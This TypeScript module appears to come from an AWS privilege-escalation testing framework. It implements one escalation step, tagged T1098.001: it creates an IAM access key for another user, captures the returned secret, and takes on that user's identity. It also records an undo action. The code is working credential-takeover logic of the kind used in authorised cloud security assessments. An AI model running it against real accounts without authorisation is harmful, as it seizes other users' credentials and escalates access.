/** T1098.001: whoever may make access keys for others acts as them. IAM API Reference: CreateAccessKey; claim DEPART-03. */
import { NothingToActOn, outputOf } from "../action.ts";
import type { Escalation } from "./escalation.ts";

type Issued = Readonly<{ AccessKeyId?: string; SecretAccessKey?: string }>;

/** `user`: name of another user of the account. */
export const createAccessKey = (user: string): Escalation => ({
  id: "create-access-key",
  sentence: `make an access key for \`${user}\``,
  techniques: ["T1098.001"],
  undo: "delete the access key",
  async climb(hands) {
    const report = await hands.call("iam", "CreateAccessKey", { UserName: user });
    const output = outputOf(report);
    if (output === undefined) return { kind: "refused", report };
    const { AccessKeyId: accessKeyId, SecretAccessKey: secretAccessKey } = (output.AccessKey ?? {}) as Issued;
    if (accessKeyId === undefined || secretAccessKey === undefined)
      throw new NothingToActOn("the answer of IAM holds no access key");
    const arn = `arn:aws:iam::${hands.principal.accountId}:user/${user}`;
    return { kind: "up", hands: hands.becoming({ accessKeyId, secretAccessKey }, arn) };
  },
});
